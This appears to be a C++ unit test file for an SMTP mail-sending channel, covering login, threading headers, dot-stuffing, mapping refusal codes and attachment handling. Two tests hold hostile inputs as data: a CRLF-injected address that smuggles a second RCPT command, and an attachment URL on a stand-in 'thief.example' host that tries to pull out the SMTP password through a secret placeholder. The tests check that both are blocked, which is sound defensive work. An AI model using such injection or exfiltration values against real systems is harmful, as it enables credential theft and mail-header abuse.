// Sending: the dialogue, and what each refusal means.
#include "email_under_test.hpp"
#include "mime.hpp"

using namespace email_test;

namespace {

drive::outgoing_message message(std::uint64_t op = 1, const std::string& text = "hello") {
    drive::outgoing_message out;
    out.op = op;
    out.to = "ana@example.com";
    out.content = json{{"text", text}}.dump();
    out.idempotency_key = "7c9e6679-7425-40de-944b-e07fc1f90ae" + std::to_string(op % 10);
    return out;
}

// A submission server that has let us in, and has the sender before it.
struct submission {
    explicit submission(const drive::outgoing_message& first = message(),
                        const std::string& offers = "AUTH PLAIN LOGIN")
        : channel(given()) {
        connection = channel.send(first).connects.at(0).connection;
        channel.open(connection);
        say("220 mx ready\r\n");
        hello = say("250-mx\r\n250-SIZE 1000000\r\n250 " + offers + "\r\n");
        last = say("235 2.7.0 in\r\n");
    }
    drive::outcome say(const std::string& bytes) { return channel.data(connection, bytes, true); }
    drive::outcome through_to_the_end() {
        say("250 ok\r\n");
        say("250 ok\r\n");
        return say("354 go\r\n");
    }

    drive::channel channel;
    std::string connection;
    drive::outcome hello, last;
};

}  // namespace

TEST_CASE("a mail is handed over, and its Message-ID is what it is known by") {
    submission to;
    CHECK(line_of(to.hello) == "AUTH PLAIN AG91dAB3b3Jk\r\n");
    CHECK(line_of(to.last).starts_with("MAIL FROM:<support@shop.example> SIZE="));
    CHECK(line_of(to.say("250 ok\r\n")) == "RCPT TO:<ana@example.com>\r\n");
    CHECK(line_of(to.say("250 ok\r\n")) == "DATA\r\n");
    const auto body = to.say("354 go\r\n").writes.at(0).data;
    CHECK(body.ends_with("\r\n.\r\n"));
    CHECK(body.find("Subject: Your message\r\n") != std::string::npos);
    const auto sent = to.say("250 2.0.0 queued as 1\r\n");
    REQUIRE(sent.sents.size() == 1);
    CHECK(body.find("<" + sent.sents[0].provider_ids.at(0) + ">") != std::string::npos);
    const auto route = json::parse(sent.sents[0].address_context);
    CHECK(route["references"] == json{sent.sents[0].provider_ids[0]});
}

TEST_CASE("an answer stays in its thread") {
    auto answer = message();
    answer.address_context =
        R"({"to":"Desk@example.com","subject":"Order 7","last":"1@e.example","references":["0@e.example","1@e.example"]})";
    submission to(answer);
    CHECK(line_of(to.say("250 ok\r\n")) == "RCPT TO:<Desk@example.com>\r\n");
    to.say("250 ok\r\n");
    const auto body = to.say("354 go\r\n").writes.at(0).data;
    CHECK(body.find("Subject: Re: Order 7\r\n") != std::string::npos);
    CHECK(body.find("In-Reply-To: <1@e.example>") != std::string::npos);
    CHECK(body.find("<0@e.example>") != std::string::npos);
    CHECK(body.find("Auto-Submitted") == std::string::npos);
}

TEST_CASE("a try that is repeated has the same Message-ID") {
    const auto id_of = [](const drive::outgoing_message& what) {
        submission to(what);
        to.through_to_the_end();
        return to.say("250 ok\r\n").sents.at(0).provider_ids.at(0);
    };
    auto again = message();
    again.attempt = 2;
    CHECK(id_of(message()) == id_of(again));
    CHECK(id_of(message()) != id_of(message(2)));
}

TEST_CASE("lines that begin with a dot get another") {
    submission to(message(1, ".hidden\n.."));
    const auto body = to.through_to_the_end().writes.at(0).data;
    CHECK(body.find("\r\n..hidden\r\n...") != std::string::npos);
}

TEST_CASE("each refusal ends the message as what it is") {
    struct told {
        std::vector<std::string> words;
        selat::code code;
        std::string provider_code;
    };
    const std::vector<told> all = {
        {{"550 5.7.1 not you\r\n"}, selat::code::config, "5.7.1"},
        {{"451 4.3.0 later\r\n"}, selat::code::unavailable, "4.3.0"},
        {{"250 ok\r\n", "550 5.1.1 no such user\r\n"}, selat::code::not_found, "5.1.1"},
        {{"250 ok\r\n", "550 unknown\r\n"}, selat::code::not_found, "550"},
        {{"250 ok\r\n", "554 5.7.1 Relay access denied\r\n"}, selat::code::config, "5.7.1"},
        {{"250 ok\r\n", "552 5.2.2 full\r\n"}, selat::code::unavailable, "5.2.2"},
        {{"250 ok\r\n", "450 4.7.1 too fast\r\n"}, selat::code::throttled, "4.7.1"},
        {{"250 ok\r\n", "250 ok\r\n", "554 no\r\n"}, selat::code::invalid, "554"},
        {{"250 ok\r\n", "250 ok\r\n", "354 go\r\n", "554 5.6.0 bad\r\n"},
         selat::code::invalid,
         "5.6.0"},
        {{"250 ok\r\n", "250 ok\r\n", "354 go\r\n", "451 later\r\n"},
         selat::code::unavailable,
         "451"},
        {{"421 4.3.2 going down\r\n"}, selat::code::unavailable, "4.3.2"}};
    for (const auto& each : all) {
        submission to;
        drive::outcome last;
        for (const auto& words : each.words) {
            last = to.say(words);
        }
        INFO(each.words.back());
        REQUIRE(last.faileds.size() == 1);
        CHECK(last.faileds[0].code == each.code);
        CHECK(last.faileds[0].provider_code == each.provider_code);
    }
}

TEST_CASE("a refused login fails what waits as denied") {
    drive::channel channel(given());
    const auto name = channel.send(message()).connects.at(0).connection;
    channel.send(message(2));
    channel.open(name);
    channel.data(name, "220 hi\r\n", true);
    channel.data(name, "250-mx\r\n250 AUTH LOGIN\r\n", true);
    CHECK(line_of(channel.data(name, "334 VXNlcm5hbWU6\r\n", true)) == "b3V0\r\n");
    CHECK(line_of(channel.data(name, "334 UGFzc3dvcmQ6\r\n", true)) == "d29yZA==\r\n");
    const auto refused = channel.data(name, "535 5.7.8 no\r\n", true);
    REQUIRE(refused.faileds.size() == 2);
    CHECK(refused.faileds[0].code == selat::code::denied);
    CHECK(refused.hangups.size() == 1);
}

TEST_CASE("a connection that breaks behind the end leaves the mail uncertain, others untouched") {
    submission to;
    to.channel.send(message(2));
    to.through_to_the_end();
    const auto lost = to.channel.close(to.connection, 1006, selat::code::unavailable, "lost");
    REQUIRE(lost.faileds.size() == 2);
    CHECK(lost.faileds[0].code == selat::code::uncertain);
    CHECK(lost.faileds[1].code == selat::code::unavailable);
    CHECK(to.channel.send(message(3)).connects.size() == 1);
}

TEST_CASE("mails go one after the other over one connection, which ends when it is idle") {
    submission to;
    CHECK(to.channel.send(message(2)).connects.empty());
    to.through_to_the_end();
    CHECK(line_of(to.say("250 ok\r\n")).starts_with("MAIL FROM"));
    to.through_to_the_end();
    CHECK(to.say("250 ok\r\n").sents.at(0).op == 2);
    const auto idle = to.channel.advance(30'000);
    REQUIRE(idle.size() == 1);
    CHECK(line_of(idle[0]) == "QUIT\r\n");
    CHECK(idle[0].hangups.size() == 1);
}

TEST_CASE("a server that does not answer is given up before the gateway gives us up") {
    submission to;
    const auto late = to.channel.advance(10'000);
    REQUIRE_FALSE(late.empty());
    CHECK(late[0].faileds.at(0).code == selat::code::unavailable);

    drive::channel channel(given());
    const auto name = channel.send(message()).connects.at(0).connection;
    CHECK(channel.advance(10'000).at(0).faileds.size() == 1);
    CHECK(channel.open(name).hangups.size() == 1);  // it opens all the same
}

TEST_CASE("what is no address, and a channel without a server, fail at once") {
    drive::channel channel(given());
    auto bad = message();
    bad.to = "a@b\r\nRCPT TO:<c@d>";
    CHECK(channel.send(bad).faileds.at(0).code == selat::code::invalid);
    drive::channel silent(given({{"smtp", json::object()}}));
    CHECK(silent.send(message()).faileds.at(0).code == selat::code::config);
}

TEST_CASE("files are fetched and go along; what cannot be had goes as a link") {
    drive::channel channel(given());
    auto with_files = message();
    with_files.content = json{{"text", "see"},
                              {"attachments",
                               {{{"kind", "file"},
                                 {"url", "https://g.example/media/1"},
                                 {"mime", "application/pdf"},
                                 {"name", "bil é.pdf"}},
                                {{"kind", "image"},
                                 {"url", "https://g.example/media/2"},
                                 {"mime", "image/png"},
                                 {"name", "b.png"}},
                                {{"kind", "file"},
                                 {"url", "https://g.example/media/3"},
                                 {"size", 11'000'000},
                                 {"name", "c.zip"}}}}}
                             .dump();
    const auto first = channel.send(with_files);
    REQUIRE(first.calls.size() == 1);
    CHECK(first.calls[0].url == "https://g.example/media/1");
    const auto second =
        channel.serial_reply(drive::answer_to(first.calls[0], 200, std::string("%PDF\0x", 6)));
    REQUIRE(second.calls.size() == 1);
    const auto ready =
        channel.serial_reply(drive::no_answer_to(second.calls[0], selat::code::denied));
    const auto name = ready.connects.at(0).connection;
    channel.open(name);
    for (const auto* line :
         {"220 hi\r\n", "250-mx\r\n250 AUTH PLAIN\r\n", "235 in\r\n", "250 ok\r\n", "250 ok\r\n"}) {
        channel.data(name, line, true);
    }
    const auto mail = email::read_mail(channel.data(name, "354 go\r\n", true).writes.at(0).data);
    REQUIRE(mail.files.size() == 1);
    CHECK(mail.files[0].name == "bil é.pdf");
    CHECK(mail.files[0].mime == "application/pdf");
    CHECK(mail.files[0].bytes == std::string("%PDF\0x", 6));
    const auto& text = mail.passages.at(0).text;
    CHECK(text.find("b.png: https://g.example/media/2") != std::string::npos);
    CHECK(text.find("c.zip: https://g.example/media/3") != std::string::npos);
}

TEST_CASE("who writes a link gets none of our secrets by it") {
    drive::channel channel(given());
    auto asks = message();
    asks.content = json{{"attachments",
                         {{{"kind", "file"},
                           {"url", "https://thief.example/{{secret:smtp.password}}"},
                           {"name", "a.txt"}}}}}
                       .dump();
    CHECK(channel.send(asks).calls.at(0).url ==
          "https://thief.example/%7B%7Bsecret:smtp.password}}");
}
